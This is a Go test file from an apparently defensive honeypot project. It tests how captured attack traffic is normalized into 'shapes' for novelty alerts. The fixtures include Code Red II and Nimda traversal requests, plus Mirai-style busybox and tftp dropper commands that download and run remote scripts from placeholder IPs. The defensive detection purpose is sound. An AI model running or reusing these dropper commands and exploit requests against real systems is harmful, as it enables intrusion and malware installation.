package novelty

import (
	"bytes"
	"context"
	"encoding/json"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/smallpot/smallpot/internal/event"
	"github.com/smallpot/smallpot/internal/pipeline"
)

var shapeCases = []struct {
	name string
	d    event.Detail
	want string
}{
	{"codered ii", &event.Request{Method: "GET", URI: "/default.ida?" + strings.Repeat("X", 224) + idaShellcode, Version: "HTTP/1.0",
		Headers: []event.Header{{Name: "Content-type", Value: "text/xml"}, {Name: "Content-length", Value: "3379"}}},
		"request GET /default.ida?{s}%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858% HTTP/1.0 [Content-type,Content-length]"},
	{"nimda double decode", &event.Request{Method: "GET", URI: "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", Version: "HTTP/1.1",
		Headers: []event.Header{{Name: "Host", Value: "www"}}},
		"request GET /scripts/..%255c../winnt/system{n}/cmd.exe?/c+dir HTTP/1.1 [Host]"},
	{"nimda overlong", &event.Request{Method: "GET", URI: "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir", Version: "HTTP/1.1"},
		"request GET /scripts/..%c0%af../winnt/system{n}/cmd.exe?/c+dir HTTP/1.1 []"},
	{"ids and query keys", &event.Request{Method: "POST", URI: "/api/v2/users/12345/files/9f86d081884c7d65?token=abc&id=7&x", Version: "HTTP/1.1",
		Headers: []event.Header{{Name: "Host"}, {Name: "X-Session", Value: "q8Fk2LmQ91ZaXw"}}},
		"request POST /api/v{n}/users/{n}/files/{h}?token&id&x HTTP/1.1 [Host,X-Session]"},
	{"random names", &event.Request{Method: "GET", URI: "/a8Fk2LmQ91Za/" + strings.Repeat("z", 30) + ".php", Version: "HTTP/1.1"},
		"request GET /{s}/{s}.php HTTP/1.1 []"},
	{"malformed", &event.Request{Method: "\x16\x03\x01", Malformed: "bad request line"},
		"request malformed {b}{b}{b}   []"},
	{"mirai dropper", &event.Command{Shell: "busybox", Line: "cd /tmp || cd /var/run; wget http://192.0.2.1/x.sh; chmod 777 x.sh; sh x.sh; /bin/busybox ECCHI"},
		"command busybox: cd {path} || cd {path} ; wget {url} ; chmod {n} {s} ; sh {s} ; {dir}/busybox {s}"},
	{"flags, quotes, redirects", &event.Command{Shell: "sh", Line: `echo -ne "\x7fELF" > /tmp/.x 2>/dev/null && tftp -g -r bot 198.51.100.2:69 --opt=1`},
		"command sh: echo -ne {path} > {path} 2> {path} && tftp -g -r {s} {ip} --opt={s}"},
	{"assignment", &event.Command{Shell: "sh", Line: "PATH=/tmp:$PATH ./run8x"},
		"command sh: {var}= {dir}/run{n}x"},
	{"ftp", &event.Command{Shell: "ftp", Line: "USER anonymous"}, "command ftp: USER {s}"},
	{"windows", &event.Command{Shell: "cmd", Line: "tftp -i 192.0.2.7 GET Admin.dll c:\\Admin.dll"},
		"command cmd: tftp -i {ip} {s} {s} {path}"},
	{"tls hello", &event.Payload{Len: 517, Data: []byte("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03abcd")},
		"payload 1603 xxxx0x0xxxxaaaa len<2^10"},
	{"text payload", &event.Payload{Len: 18, Data: []byte("GET / HTTP/1.0\r\n\r\n")},
		"payload GET aaa_/_aaaa/9.9nn len<2^5"},
	{"empty payload", &event.Payload{}, "payload   len<2^0"},
	{"rpc", &event.RPC{Program: 100000, Version: 2, Procedure: 3, Auth: "unix"}, "rpc 100000/2/3 auth=unix"},
	{"ssh", &event.SSH{ClientVersion: "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.1", HASSH: "ec7378c1a92f5a8dde7e8b7a1ddf33d1"},
		"ssh SSH-{n}.{n}-OpenSSH_{n}.{n}p{n}{b}Ubuntu-{n}ubuntu{n}.{n} hassh=ec7378c1a92f5a8dde7e8b7a1ddf33d1"},
	{"ssh without kex", &event.SSH{ClientVersion: "SSH-2.0-Go", HASSH: "not-a-hash"}, "ssh SSH-{n}.{n}-Go hassh=-"},
	{"login has no shape", &event.Login{User: "root", Password: "x"}, ""},
}

func TestShapes(t *testing.T) {
	for _, tc := range shapeCases {
		if got := shapeOf(envelope(tc.d)); got != tc.want {
			t.Errorf("%s:\ngot  %q\nwant %q", tc.name, got, tc.want)
		}
	}
}

// Shapes are bounded whatever arrives.
func TestShapeBounds(t *testing.T) {
	long := strings.Repeat("/a%20b?c=d&", 5000)
	var hs []event.Header
	for range 500 {
		hs = append(hs, event.Header{Name: strings.Repeat("N", 300)})
	}
	for _, d := range []event.Detail{
		&event.Request{Method: long, URI: long, Version: long, Headers: hs},
		&event.Command{Shell: long, Line: strings.Repeat("a -b 'c' ; ", 5000)},
		&event.SSH{ClientVersion: long},
	} {
		if s := shapeOf(envelope(d)); len(s) > maxShape || s == "" {
			t.Errorf("%T: shape of %d bytes; want 1 to %d", d, len(s), maxShape)
		}
	}
}

// capturedEvents returns the events the repository keeps: those of the
// detection corpus, those the services' session tests expect (their
// txtar files' events sections), and the shape cases.
func capturedEvents(t *testing.T) []*event.Event {
	t.Helper()
	var evs []*event.Event
	add := func(file, service string, lines []byte) {
		for i, line := range bytes.Split(lines, []byte("\n")) {
			if len(bytes.TrimSpace(line)) == 0 {
				continue
			}
			e := new(event.Event)
			if err := json.Unmarshal(line, e); err != nil {
				t.Fatalf("%s:%d: %v", file, i+1, err)
			}
			if e.Sensor == "" {
				e.Sensor = "pot-1"
			}
			if e.Service == "" {
				e.Service = service
			}
			evs = append(evs, e)
		}
	}
	corpus, err := os.ReadFile("../detect/testdata/corpus.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	add("corpus.jsonl", "", corpus)
	err = filepath.WalkDir("../services", func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || filepath.Ext(path) != ".txtar" {
			return err
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		_, events, ok := bytes.Cut(data, []byte("\n-- events --\n"))
		if !ok {
			return nil
		}
		if end := bytes.Index(events, []byte("\n-- ")); end >= 0 {
			events = events[:end]
		}
		service := strings.Split(filepath.ToSlash(path), "/")[2] // ../services/NAME/...
		add(path, service, events)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range shapeCases {
		evs = append(evs, envelope(tc.d))
	}
	return evs
}

// The shapes and keys are those of the reference implementation for
// every captured event.
func TestShapeReference(t *testing.T) {
	evs := capturedEvents(t)
	kinds := map[event.Kind]int{}
	for _, e := range evs {
		want := refShapeOf(e)
		if got := shapeOf(e); got != want {
			t.Errorf("%s %s event %s:\ngot  %q\nwant %q", e.Service, e.Kind, e.ID, got, want)
			continue
		}
		if want == "" {
			continue
		}
		kinds[e.Kind]++
		if got, want := shapeKey(e, []byte(want)), refShapeKey(e, want); got != want {
			t.Errorf("%s %s event %s: key %x; want %x", e.Service, e.Kind, e.ID, got, want)
		}
	}
	t.Logf("%d events, with a shape: %v", len(evs), kinds)
	for _, k := range []event.Kind{event.KindRequest, event.KindCommand, event.KindPayload, event.KindRPC, event.KindSSH} {
		if kinds[k] < 5 {
			t.Errorf("%d %s events with a shape; want at least 5", kinds[k], k)
		}
	}
}

// Fed every captured event, the analyzer stores and announces the shapes
// the reference implementation gives, each once, from the event that
// brought it first.
func TestShapeAlertsReference(t *testing.T) {
	r := newRig(t, Config{AlertsPerMinute: 1 << 20}, nil, nil)
	evs := capturedEvents(t)
	var want []string
	wantRows := map[string]string{} // key: shape
	wantIDs := map[string]string{}  // key: event ID
	for _, e := range evs {
		s := refShapeOf(e)
		if s == "" || e.Kind == event.KindAlert || e.Kind == event.KindDetection {
			continue
		}
		key := strconv.FormatUint(refShapeKey(e, s), 16)
		key = strings.Repeat("0", 16-len(key)) + key
		if _, ok := wantRows[key]; !ok {
			wantRows[key], wantIDs[key] = s, e.ID
			want = append(want, s)
		}
	}
	if len(want) < 100 {
		t.Fatalf("%d shapes among %d events: the captured events are missing", len(want), len(evs))
	}
	for len(evs) > 0 {
		n := min(len(evs), 50)
		batch := make([]pipeline.Record, n)
		for i, e := range evs[:n] {
			batch[i].Event = e
		}
		if err := r.a.Write(context.Background(), batch); err != nil {
			t.Fatal(err)
		}
		evs = evs[n:]
	}
	var got []string
	for _, al := range r.take() {
		if al.Type == event.AlertNewShape {
			got = append(got, al.Shape)
		}
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("new_shape alerts:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if len(r.db.shapes) != len(wantRows) {
		t.Errorf("%d shapes stored; want %d", len(r.db.shapes), len(wantRows))
	}
	for key, p := range r.db.shapes {
		if p.Shape != wantRows[key] || p.EventID != wantIDs[key] {
			t.Errorf("stored %s: %q from %s; want %q from %s", key, p.Shape, p.EventID, wantRows[key], wantIDs[key])
		}
	}
	if n := r.a.Stats().NewShapes; n != uint64(len(want)) {
		t.Errorf("%d new shapes counted; want %d", n, len(want))
	}
}

// The key of the last shape is remembered only for the same sensor,
// service, kind and shape.
func TestShapeKeyLast(t *testing.T) {
	req := &event.Request{Method: "GET", URI: "/", Version: "HTTP/1.0"}
	other := func(f func(e *event.Event)) *event.Event {
		e := envelope(req)
		f(e)
		return e
	}
	evs := []*event.Event{
		envelope(req), envelope(req),
		other(func(e *event.Event) { e.Sensor = "s2" }), envelope(req),
		other(func(e *event.Event) { e.Service = "http-alt" }), envelope(req),
		other(func(e *event.Event) { e.Kind = event.KindPayload }), envelope(req),
		envelope(&event.Request{Method: "GET", URI: "/", Version: "HTTP/1.1"}), envelope(req),
	}
	var l lastShape
	for i, e := range evs {
		s := shapeOf(e)
		if got, want := l.key(e, []byte(s)), refShapeKey(e, s); got != want {
			t.Errorf("event %d: key %x; want %x", i, got, want)
		}
	}
}

// The parts of shape.go rewritten without strconv and strings.Split read
// numbers, letters and addresses as before.
func TestShapeHelpersReference(t *testing.T) {
	for c := range 256 {
		if got, want := isLetter(byte(c)), refIsLetter(byte(c)); got != want {
			t.Errorf("isLetter(%#x) = %v; want %v", c, got, want)
		}
	}
	const alphabet = "+-0125 9a.:"
	var parts []string
	var gen func(p string)
	gen = func(p string) {
		parts = append(parts, p)
		if len(p) < 4 {
			for i := range len(alphabet) {
				gen(p + alphabet[i:i+1])
			}
		}
	}
	gen("")
	for _, p := range parts {
		for _, s := range []string{p, "1.2.3." + p, p + ".2.3.4", "10." + p + ".0.1:80", "1.2." + p} {
			if got, want := isIPv4Port(s), refIsIPv4Port(s); got != want {
				t.Errorf("isIPv4Port(%q) = %v; want %v", s, got, want)
			}
			if got, want := argClass(s), refArgClass(s); got != want {
				t.Errorf("argClass(%q) = %q; want %q", s, got, want)
			}
		}
	}
}

// The shapes and keys are those of the reference implementation for the
// edge cases of each normalizer, each with each.
func TestShapeEdgesReference(t *testing.T) {
	edges := []string{"", "-", strings.Repeat("a", 23), strings.Repeat("B", 24), strings.Repeat("c", 25),
		"x-" + strings.Repeat("d", 24) + ".e", "ab1", "abcdef12", "abcdef1234", "0123456789a", "0123456789ab",
		"a1b2c3d4e5f", "%", "%2", "%25", "%255c", "%2g", "%u0041", "%U004", "%c0%af%", "a\x00b", "\xff\xfe", "é",
		"GET / HTTP/1.0", "/a//b/./12/?q=1&r&=s&t=", strings.Repeat("/ab", 40), strings.Repeat("k&", 40),
		strings.Repeat("Host\n", 45), `a"b"c`, `echo /tmp/"x"`, `wget http:"//h/x"`, `a'b c'd`, `"open`, `x'`, "2>x", "a 2>x", "a\t2>x", "||&&>><<();`",
		"FOO=1 BAR=2 cmd", "_x=1 9y=2", "/bin/sh -c \"x\"", "cd /tmp;./x.sh", "1.2.3.4", "+1.2.3.4:80",
		"-0.0.0.0", "256.1.1.1", "1.2.3", "ftp://x", "-o=v --long-option-name-here=1", strings.Repeat("a ", 60),
		"SSH-2.0-OpenSSH_8.9p1", "ec7378c1a92f5a8dde7e8b7a1ddf33d1", "EC7378C1A92F5A8DDE7E8B7A1DDF33Dg"}
	for _, a := range edges {
		for _, b := range edges {
			for _, n := range []uint32{0, 1, 517, 1 << 31} {
				checkShapeReference(t, a, b, n)
			}
		}
	}
}

// scannerEvents are the events of one connection of a scanner flood, as
// the http service emits them: connect, the request (GET / HTTP/1.0 with
// three headers), close; then a command and a payload of other services.
func scannerEvents() map[string]*event.Event {
	return map[string]*event.Event{
		"connect": envelope(&event.Connect{Listener: "0.0.0.0:80"}),
		"request": envelope(&event.Request{Method: "GET", URI: "/", Path: "/", Version: "HTTP/1.0",
			Headers: []event.Header{{Name: "Host", Value: "198.51.100.1"}, {Name: "User-Agent", Value: "Mozilla/5.0 zgrab/0.x"},
				{Name: "Accept", Value: "*/*"}},
			Host: "198.51.100.1", UserAgent: "Mozilla/5.0 zgrab/0.x", Status: 200, Action: "static:iisstart.htm"}),
		"close": envelope(&event.Close{DurationMS: 3, BytesIn: 78, BytesOut: 1790, Reason: event.ReasonEOF,
			TranscriptIn: 78, TranscriptOut: 1790, Transcript: make([]byte, 1900)}),
		"command": envelope(&event.Command{Shell: "busybox", Line: "cd /tmp || cd /var/run; wget http://192.0.2.1/x.sh; chmod 777 x.sh; sh x.sh"}),
		"payload": envelope(&event.Payload{Len: 18, Data: []byte("GET / HTTP/1.0\r\n\r\n")}),
	}
}

// BenchmarkShapeSeen measures what the analyzer does for an event whose
// shape it has seen before (the common case: a flood of one probe), and
// for events without a shape, against the reference implementation
// (shape_ref_test.go).
func BenchmarkShapeSeen(b *testing.B) {
	a, err := New(b.Context(), Config{}, nil, nil, func(*event.Event) {}, quiet)
	if err != nil {
		b.Fatal(err)
	}
	evs := scannerEvents()
	for _, name := range []string{"request", "connect", "close", "command", "payload"} {
		e := evs[name]
		a.shape(e)
		b.Run(name+"/ref", func(b *testing.B) {
			for b.Loop() {
				if !refShapeSeen(a, e) {
					b.Fatal("shape not seen")
				}
			}
		})
		b.Run(name+"/new", func(b *testing.B) {
			for b.Loop() {
				a.shape(e)
			}
		})
	}
	// Two requests in turn: the key of the last shape is never the one.
	other := envelope(&event.Request{Method: "GET", URI: "/robots.txt", Version: "HTTP/1.1",
		Headers: []event.Header{{Name: "Host"}, {Name: "User-Agent"}, {Name: "Accept-Encoding"}, {Name: "Connection"}}})
	a.shape(other)
	two := []*event.Event{evs["request"], other}
	b.Run("requests-in-turn/ref", func(b *testing.B) {
		i := 0
		for b.Loop() {
			if !refShapeSeen(a, two[i&1]) {
				b.Fatal("shape not seen")
			}
			i++
		}
	})
	b.Run("requests-in-turn/new", func(b *testing.B) {
		i := 0
		for b.Loop() {
			a.shape(two[i&1])
			i++
		}
	})
	if n := a.Stats().NewShapes; n != 4 {
		b.Fatalf("%d new shapes; want 4", n)
	}
}
